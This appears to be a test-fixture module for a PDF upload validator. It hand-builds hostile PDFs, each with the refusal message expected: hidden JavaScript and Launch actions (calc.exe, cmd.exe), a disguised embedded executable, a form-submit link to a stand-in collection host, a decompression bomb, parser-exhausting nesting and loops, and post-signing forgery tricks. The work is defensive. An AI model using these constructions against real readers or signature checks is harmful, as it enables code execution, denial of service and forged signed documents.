import { constants, deflateRawSync } from 'node:zlib';
import { type PdfRef as LibRef, PDF, PdfArray, PdfName, PdfNumber } from '@libpdf/core';
import { PDFArray, PDFDict, PDFDocument, PDFName, type PDFObject, PDFString } from 'pdf-lib';

/** A file of the hostile corpus, with the reason its refusal must give. */
export interface Hostile {
  name: string;
  bytes: Uint8Array;
  reason: RegExp;
}

const latin1 = (s: string) => Buffer.from(s, 'latin1');

/** A stream object's text: the dictionary with its /Length, then the data. */
export function stream(dict: string, data: Uint8Array | string): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : Buffer.from(data);
  return Buffer.concat([
    latin1(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    latin1('\nendstream'),
  ]);
}

/**
 * A PDF written by hand, as an attacker would: objects numbered from 1 in the order given, then a
 * cross-reference table (or, when objects are listed as compressed in an object stream, a
 * cross-reference stream) and the trailer. Object 1 is the catalog.
 */
export function rawPdf(
  objects: (string | Buffer)[],
  options: { compressed?: Record<number, [stream: number, index: number]> } = {},
): Uint8Array {
  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let at = parts[0]?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(at);
    const chunk = Buffer.concat([
      latin1(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? latin1(body) : body,
      latin1('\nendobj\n'),
    ]);
    parts.push(chunk);
    at += chunk.length;
  });
  const compressed = options.compressed ?? {};
  const size = Math.max(objects.length, ...Object.keys(compressed).map(Number)) + 1;
  if (Object.keys(compressed).length === 0) {
    const rows = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
    parts.push(
      latin1(
        `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
      ),
    );
  } else {
    // Type 1 entries (offset, 4 bytes) and type 2 entries (object stream, index), W [1 4 2].
    const xrefNum = size;
    const table = Buffer.alloc((size + 1) * 7);
    for (let num = 0; num <= size; num++) {
      const row = num * 7;
      const packed = compressed[num];
      if (num === 0) continue;
      if (packed) {
        table.writeUInt8(2, row);
        table.writeUInt32BE(packed[0], row + 1);
        table.writeUInt16BE(packed[1], row + 5);
      } else if (num === xrefNum) {
        table.writeUInt8(1, row);
        table.writeUInt32BE(at, row + 1);
      } else if (offsets[num - 1] !== undefined) {
        table.writeUInt8(1, row);
        table.writeUInt32BE(offsets[num - 1] as number, row + 1);
      }
    }
    const xref = stream(`/Type /XRef /Size ${size + 1} /W [1 4 2] /Root 1 0 R`, table);
    parts.push(latin1(`${xrefNum} 0 obj\n`), xref, latin1(`\nendobj\nstartxref\n${at}\n%%EOF\n`));
  }
  return new Uint8Array(Buffer.concat(parts));
}

/** A catalog, a page tree and one page; `page` and `catalog` add entries to those dictionaries. */
function onePage(extra: { catalog?: string; page?: string; more?: (string | Buffer)[] } = {}): Uint8Array {
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${extra.page ?? ''} >>`,
    ...(extra.more ?? []),
  ]);
}

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A ${action} >>]`;

/** A document made by pdf-lib, whose objects (the action among them) land in a compressed object stream. */
async function inObjectStream(action: Record<string, PDFObject | string>): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([200, 200]);
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action as never));
  return pdf.save({ useObjectStreams: true });
}

/**
 * A zlib stream of `total` zero bytes, 1 KB of it per MB: blocks of 8 MiB deflated once, flushed to
 * a byte boundary, and repeated, then closed with the right Adler-32.
 */
export function zlibBomb(total = 1024 * 1024 * 1024): Buffer {
  const block = 8 * 1024 * 1024;
  const chunk = deflateRawSync(Buffer.alloc(block), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  const blocks: Buffer[] = Array(total / block).fill(chunk);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...blocks, deflateRawSync(Buffer.alloc(0)), adler]);
}

/** 1 MB on disk: an object stream (holding the page) that inflates to 1 GiB. */
export function decompressionBomb(): Uint8Array {
  const bomb = zlibBomb();
  return rawPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb),
    ],
    { compressed: { 4: [3, 0] } },
  );
}

/**
 * A one-page PDF carrying `data` as an embedded file the way a PDF/A-3 associated file is written
 * (file specification with AFRelationship, listed in the catalog's /AF and the embedded files tree),
 * with each part of that shape optional, to try what the inspection lets through.
 */
export async function withAttachment(
  data: Uint8Array,
  options: {
    name?: string;
    mimeType?: string;
    relationship?: string;
    inAF?: boolean;
    base?: Uint8Array;
  } = {},
): Promise<Uint8Array> {
  const {
    name = 'agreement.json',
    mimeType = 'application/json',
    relationship = 'Data',
    inAF = true,
  } = options;
  const pdf = options.base ? await PDFDocument.load(options.base) : await PDFDocument.create();
  if (!options.base) pdf.addPage([200, 200]);
  const context = pdf.context;
  const file = context.register(context.flateStream(data, { Type: 'EmbeddedFile', Subtype: mimeType }));
  const spec = context.register(
    context.obj({
      Type: 'Filespec',
      F: PDFString.of(name),
      UF: PDFString.of(name),
      EF: { F: file },
      AFRelationship: relationship,
    }),
  );
  const af = pdf.catalog.lookup(PDFName.of('AF'));
  const specs = af instanceof PDFArray ? [...af.asArray(), spec] : [spec];
  if (inAF) pdf.catalog.set(PDFName.of('AF'), context.obj(specs));
  const names = pdf.catalog.lookup(PDFName.of('Names'));
  const tree = names instanceof PDFDict ? names.lookup(PDFName.of('EmbeddedFiles')) : undefined;
  const entries = tree instanceof PDFDict ? (tree.lookup(PDFName.of('Names')) as PDFArray).asArray() : [];
  pdf.catalog.set(
    PDFName.of('Names'),
    context.obj({ EmbeddedFiles: { Names: [...entries, PDFString.of(name), spec] } }),
  );
  return pdf.save({ useObjectStreams: false });
}

/**
 * Active content the old byte regex missed or never looked for, and structures meant to exhaust a
 * parser; each with the reason the uploader must see.
 */
export async function hostileUploads(): Promise<Hostile[]> {
  const exe = Buffer.concat([latin1('MZ'), Buffer.alloc(510, 0x90)]);
  const withExe = await PDFDocument.create();
  withExe.addPage([200, 200]);
  await withExe.attach(exe, 'setup.exe', { mimeType: 'application/x-msdownload', description: 'Setup' });
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  return [
    {
      name: '#xx-escaped names',
      bytes: onePage({ catalog: '/Open#41ction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>' }),
      reason: /runs JavaScript when it is opened/,
    },
    {
      name: 'escaped action kind behind a reference',
      bytes: onePage({ page: link('<< /S 4 0 R /F (calc.exe) >>'), more: ['/La#75nch'] }),
      reason: /launches a program or file \(calc\.exe\) in a link on page 1/,
    },
    {
      name: 'JavaScript in a compressed object stream',
      bytes: await inObjectStream({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      reason: /runs JavaScript when it is opened/,
    },
    {
      name: 'launch in a compressed object stream',
      bytes: await inObjectStream({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') }),
      reason: /launches a program or file \(cmd\.exe\)/,
    },
    {
      name: 'embedded .exe',
      bytes: await withExe.save(),
      reason: /carries an embedded file \(setup\.exe\)/,
    },
    {
      name: "a program disguised as the agreement's data (named .json, typed JSON, not JSON)",
      bytes: await withAttachment(exe),
      reason: /carries an embedded file \(agreement\.json\)/,
    },
    {
      name: 'JSON data not associated with the document (absent from /AF)',
      bytes: await withAttachment(latin1('{"a":1}'), { inAF: false }),
      reason: /carries an embedded file \(agreement\.json\)/,
    },
    {
      name: 'JSON associated as its source, not its data',
      bytes: await withAttachment(latin1('{"a":1}'), { relationship: 'Source' }),
      reason: /carries an embedded file \(agreement\.json\)/,
    },
    {
      name: 'a script named .json',
      bytes: await withAttachment(latin1('{"a":1}'), { name: 'run.js', mimeType: 'application/json' }),
      reason: /carries an embedded file \(run\.js\)/,
    },
    {
      name: 'SubmitForm link',
      bytes: onePage({
        page: link('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/) >> >>'),
      }),
      reason: /sends form data to an address \(https:\/\/collect\.example\.invalid\/\) in a link on page 1/,
    },
    {
      name: 'ImportData',
      bytes: onePage({ catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' }),
      reason: /imports form data from a file \(data\.fdf\)/,
    },
    {
      name: 'GoToR to a remote file',
      bytes: onePage({ page: link('<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>') }),
      reason: /opens another file/,
    },
    {
      name: 'page-open additional action',
      bytes: onePage({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
      reason: /runs JavaScript when page 1 is opened or closed/,
    },
    {
      name: 'form field additional action',
      bytes: onePage({
        catalog: '/AcroForm << /Fields [4 0 R] >>',
        page: '/Annots [4 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (Nama) /P 3 0 R /Rect [10 10 90 30] /AA << /K << /S /JavaScript /JS (event.rc=true) >> >> >>',
        ],
      }),
      reason: /runs JavaScript in the form field “Nama”/,
    },
    {
      name: 'javascript: link, mixed case, tab and leading space',
      bytes: onePage({ page: link('<< /S /URI /URI ( JaVa\tScRiPt:alert\\(1\\)) >>') }),
      reason: /link to a javascript: address in a link on page 1/,
    },
    {
      name: 'file: link',
      bytes: onePage({ page: link('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>') }),
      reason: /link to a file: address/,
    },
    {
      name: 'data: link',
      bytes: onePage({ page: link('<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>') }),
      reason: /link to a data: address/,
    },
    {
      name: 'document-level JavaScript in the names tree',
      bytes: onePage({
        catalog: '/Names << /JavaScript << /Names [(init) 4 0 R] >> >>',
        more: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
      }),
      reason: /runs JavaScript when it is opened \(document-level scripts\)/,
    },
    {
      name: 'JavaScript as a stream, in an unreferenced object',
      bytes: onePage({
        more: [stream('/Type /Action /S /JavaScript', 'app.alert(1)'), '<< /S /JavaScript /JS 4 0 R >>'],
      }),
      reason: /runs JavaScript in an object no page shows/,
    },
    {
      name: 'rich media annotation',
      bytes: onePage({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]' }),
      reason: /plays embedded media or 3D content \(RichMedia\)/,
    },
    {
      name: 'unknown action kind',
      bytes: onePage({ page: link('<< /S /Frobnicate >>') }),
      reason: /action of an unknown kind \(Frobnicate\)/,
    },
    { name: 'decompression bomb (1 MB → 1 GiB)', bytes: decompressionBomb(), reason: /decompression bomb/ },
    {
      name: 'arrays nested 100,000 deep',
      bytes: onePage({ page: `/Junk ${deep}` }),
      reason: /nests objects more than 64 levels deep/,
    },
    {
      name: 'page tree that contains itself',
      bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
      reason: /damaged/,
    },
    {
      name: 'references that point at each other',
      bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '3 0 R', '2 0 R']),
      reason: /damaged|no pages/,
    },
    {
      name: 'cross-reference sections that point at each other',
      bytes: prevLoop(),
      reason: /runs JavaScript/,
    },
  ];
}

/**
 * A cross-reference table whose /Prev points at itself: the reader falls back to reading the
 * objects one by one, and still finds the script the file hides.
 */
function prevLoop(): Uint8Array {
  const good = Buffer.from(onePage({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })).toString(
    'latin1',
  );
  const at = good.lastIndexOf('xref');
  return new Uint8Array(latin1(good.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`)));
}

/** A long chain of harmless actions (each /Next the following one): checked without overflowing a stack. */
export function longActionChain(length = 20_000): Uint8Array {
  const actions = Array.from(
    { length },
    (_, i) => `<< /S /GoTo /D [3 0 R /Fit]${i + 1 < length ? ` /Next ${i + 5} 0 R` : ''} >>`,
  );
  return onePage({ catalog: '/OpenAction 4 0 R', more: actions });
}

/** A plain web link: allowed. */
export const httpsLink = () => onePage({ page: link('<< /S /URI /URI (https://jatengprov.go.id/) >>') });

/** Incremental updates appended after the last signature of a signed PDF, as a forger would write them. */
export const afterSigning = {
  /** Page 1's content replaced by a new stream: the shadow attack. */
  async replacePage1(signed: Uint8Array): Promise<Uint8Array> {
    const pdf = await PDF.load(signed);
    const page = pdf.getPage(0);
    if (!page) throw new Error('no page 1');
    const content = pdf.createStream({}, latin1('BT /F1 24 Tf 50 700 Td (Nilai: Rp 9.999.999.999) Tj ET'));
    page.dict.set('Contents', content);
    return pdf.save({ incremental: true });
  },

  /** A text annotation added on the last page. */
  async addAnnotation(signed: Uint8Array): Promise<Uint8Array> {
    const pdf = await PDF.load(signed);
    const page = pdf.getPage(pdf.getPageCount() - 1);
    if (!page) throw new Error('no page');
    const note = pdf.createDict({
      Type: PdfName.of('Annot'),
      Subtype: PdfName.of('Square'),
      Rect: new PdfArray([0, 0, 300, 300].map((n) => PdfNumber.of(n))),
      P: page.ref,
    });
    const annots = page.dict.getArray('Annots');
    if (annots) annots.push(note);
    else page.dict.set('Annots', new PdfArray([note]));
    return pdf.save({ incremental: true });
  },

  /** Validation data (a DSS with one certificate), as a long-term signature adds it: allowed. */
  async addValidationData(signed: Uint8Array, certificateDer: Uint8Array): Promise<Uint8Array> {
    const pdf = await PDF.load(signed);
    const cert: LibRef = pdf.createStream({}, certificateDer);
    pdf.getCatalog().set('DSS', pdf.createDict({ Certs: new PdfArray([cert]) }));
    return pdf.save({ incremental: true });
  },
};

/** A signed file padded to 4.5 MiB with decoy byte ranges (9 KB apart) aimed at its signature. */
export function decoyRanges(signed: Uint8Array): Uint8Array {
  const text = Buffer.from(signed).toString('latin1');
  const at = text.indexOf('/ByteRange');
  const range = text.slice(at, text.indexOf(']', at) + 1);
  const decoy = latin1(`% ${range}\n`.padEnd(9000, ' '));
  const copies = Math.ceil((4.5 * 1024 * 1024 - signed.length) / decoy.length);
  return new Uint8Array(
    Buffer.concat([Buffer.from(signed), ...Array(copies).fill(decoy), latin1('\n%%EOF\n')]),
  );
}

/**
 * About 4.5 MB with `count` signature fields, each with its own signature dictionary whose byte
 * range is exactly right: around its own /Contents, to the end of the file. The most hashing a file
 * can ask for, one pass over the whole file per field.
 */
export function manySignatures(count: number): Uint8Array {
  const placeholder = `[0 ${'0'.repeat(10)} ${'0'.repeat(10)} ${'0'.repeat(10)}]`;
  const signatures = Array.from(
    { length: count },
    () =>
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${placeholder} /Contents <${'00'.repeat(64)}> >>`,
  );
  const fields = Array.from({ length: count }, (_, i) => `<< /FT /Sig /T (f${i}) /V ${i + 5} 0 R >>`);
  const fieldRefs = fields.map((_, i) => `${count + i + 5} 0 R`).join(' ');
  const file = Buffer.from(
    rawPdf([
      `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${fieldRefs}] /SigFlags 3 >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      stream('', Buffer.alloc(4.5 * 1024 * 1024, 0x20)),
      ...signatures,
      ...fields,
    ]),
  );
  // Every offset is known now: write each range, as wide as its placeholder, around its own /Contents.
  for (let at = file.indexOf(placeholder); at >= 0; at = file.indexOf(placeholder, at + 1)) {
    const open = file.indexOf('<', at);
    const close = file.indexOf('>', open) + 1;
    const pad = (n: number) => String(n).padStart(10, '0');
    file.write(`[0 ${pad(open)} ${pad(close)} ${pad(file.length - close)}]`, at, 'latin1');
  }
  return new Uint8Array(file);
}
